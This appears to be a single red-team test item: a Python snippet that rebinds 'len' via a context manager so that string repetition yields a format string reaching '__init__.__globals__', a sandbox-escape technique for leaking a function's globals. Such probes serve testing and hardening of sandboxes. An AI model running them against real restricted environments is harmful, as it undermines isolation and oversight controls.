# family: red team, round 68b (len bound by with-as, then used to repeat a template piece)
class Evil:
    def __rmul__(self, other):
        return "{0.__init__.__globals__}"
class Ctx:
    def __enter__(self):
        return lambda x: Evil()
    def __exit__(self, *a):
        return False
def show(obj):
    return ("{}" * len(obj)).format(show)
with Ctx() as len:
    print(show([1]))
